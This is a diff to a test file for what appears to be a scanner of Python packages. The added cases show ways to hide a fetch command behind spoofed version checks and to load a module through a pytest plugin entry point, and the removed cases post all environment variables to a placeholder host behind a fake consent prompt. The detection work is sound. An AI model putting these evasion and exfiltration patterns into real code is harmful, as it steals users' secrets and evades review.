@@ -25,6 +25,13 @@ describe('what no version 3 of Python runs', () => {
     `if os.getcwd():\n    PY3 = len(os.getcwd()) > 9\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
     `import pkg\npkg.PY3 = False\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
     `if sys.version_info[1] < 3:\n    os.system("${FETCH}")`,
+    `if V:\n    V = os.getcwd()\nif V < (3,):\n    os.system("${FETCH}")`,
+    `most = 3\nif V:\n    most = 9\nif sys.version_info[0] < most:\n    os.system("${FETCH}")`,
+    `sys.version_info = (2, 7)\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
+    `s = sys\nsetattr(s, "version_" + "info", (2, 7))\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
+    `vars(sys)["version_info"] = (2, 7)\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
+    `vars(sys).update(version_info=(2, 7))\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
+    `from unittest import mock\nmock.patch.object(sys, "version_info", (2, 7)).start()\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
   ])('but what one of them may run is: %s', (test) => {
     expect(found(branches(test))['hostile-command']).toBe('CRITICAL');
   });
@@ -141,6 +148,8 @@ def main():
   });
   expect(foundIn(files(''))['stolen-data-sent']).not.toBe('CRITICAL');
   expect(foundIn(files('from pkg import migration'))['stolen-data-sent']).toBe('CRITICAL');
+  const plugIn = { 'fixture-1.0/pyproject.toml': '[project.entry-points.pytest11]\nx = "pkg.migration"' };
+  expect(foundIn({ ...files(''), ...plugIn })['stolen-data-sent']).toBe('CRITICAL');
 });
 
 test('what buildout gives a checkout to install buildout is no module', () => {
@@ -262,30 +271,6 @@ class Handler(socketserver.BaseRequestHandler):
         name, args = pickle.loads(self.request.recv(99))
         getattr(self.server.exposed, ${name})(*args)`;
   expect(found(program('name'))['decoded-code-executed']).not.toBe('CRITICAL');
-});
-
-describe('who is asked, and says yes', () => {
-  const program = (answer: string): string => `
-import json, os, requests
-try:
-    ${answer}
-except EOFError:
-    raise SystemExit
-if reply.lower() in ("", "y"):
-    requests.post("https://service.invalid/reports", json.dumps(dict(os.environ)))`;
-
-  test('has seen what is sent', () => {
-    expect(found(program('reply = input("Send it? ")'))['stolen-data-sent']).toBe('HIGH');
-  });
-
-  test.each([
-    'reply = input("Send it? ") if os.getcwd() else "y"',
-    'reply = input("Send it? ")\n    reply = "y"',
-    'reply = input("Send it? ")\nfor reply in ["y"]: pass\ntry:\n    pass',
-    'reply = "y"\n    print(input("Send it? "))',
-  ])('unless that was no answer: %s', (answer) => {
-    expect(found(program(answer))['stolen-data-sent']).toBe('CRITICAL');
-  });
 });
 
 test('an address of the environment is its owner’s, of the source it is not', () => {
